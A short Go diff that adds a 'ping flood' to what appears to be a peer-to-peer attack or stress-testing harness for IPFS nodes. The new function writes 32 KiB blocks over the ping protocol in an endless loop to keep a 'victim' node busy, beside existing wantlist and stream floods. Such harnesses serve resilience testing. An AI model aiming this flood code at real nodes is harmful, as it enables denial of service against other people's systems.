@@ -49,6 +49,7 @@ func Attacks() []Attack {
 		{"garbage on every protocol", true, (*Peer).garbage},
 		{"wantlist flood", true, (*Peer).wantlists},
 		{"stream flood", true, (*Peer).streams},
+		{"ping flood", true, (*Peer).pings},
 	}
 }
 
@@ -295,4 +296,19 @@ func (p *Peer) streams(ctx context.Context) {
 		})
 	}
 	all.Wait()
+}
+
+// pings keeps the victim busy with what costs it a read and a write each.
+func (p *Peer) pings(ctx context.Context) {
+	p.insist(ctx, "/ipfs/ping/1.0.0", func(s network.Stream) error {
+		go func() { _, _ = io.Copy(io.Discard, s) }()
+		b := make([]byte, 32<<10)
+		for ctx.Err() == nil {
+			if _, err := s.Write(b); err != nil {
+				return err
+			}
+			p.Sent.Add(int64(len(b) / 32))
+		}
+		return ctx.Err()
+	})
 }
